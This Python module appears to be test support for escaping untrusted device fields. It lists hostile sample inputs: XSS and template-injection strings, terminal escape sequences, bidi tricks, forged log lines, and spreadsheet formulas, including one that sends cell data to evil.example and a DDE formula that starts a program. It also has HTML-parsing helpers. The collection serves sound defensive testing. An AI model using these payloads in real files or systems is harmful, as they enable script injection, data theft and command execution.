"""What strangers write into names, serial numbers and log lines, by the harm that it is meant to do."""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a way out of an attribute": "\"'><img src=x onerror=alert(1)>",
    "a way out of a comment": "--><svg onload=alert(1)><!--",
    "an entity that is one already": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "a template": "{{ 7*7 }}{% raw %}{{ config }}{# #}${7*7}",
    "an address that is code": "javascript:alert(document.domain)",
    "colours of a terminal": "\x1b[31mred\x1b[0m",
    "the title of a terminal": "\x1b]0;pwned\x07",
    "a link in a terminal": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a control sequence in one byte": "\x9b2J\x9d0;x\x9c",
    "a line written over": "FAULT\rNothing wrong was found.   ",
    "a line of ours": "x\nNothing wrong was found.\n",
    "letters that turn round": "gpj.\u202eexe\u2066\u200b\ufeff",
    "a formula": '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    "a formula that starts a program": "=cmd|'/C calc'!A0",
    "a formula behind a sign": "+1+1@SUM(1)-2",
    "markup of the screen": "[bold red]x[/][link=http://evil.example]y[/link]",
}
HARMLESS = "SSD 870 EVO"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("<!--", (data,)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def built(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """What a browser builds of a page: each element with the names of its attributes, and each comment."""
    tags = _Tags()
    tags.feed(page)
    tags.close()
    return tags.found


def read(page: str) -> str:
    """What a reader sees of it."""
    tags = _Tags()
    tags.feed(page)
    tags.close()
    return " ".join("".join(tags.text).split())
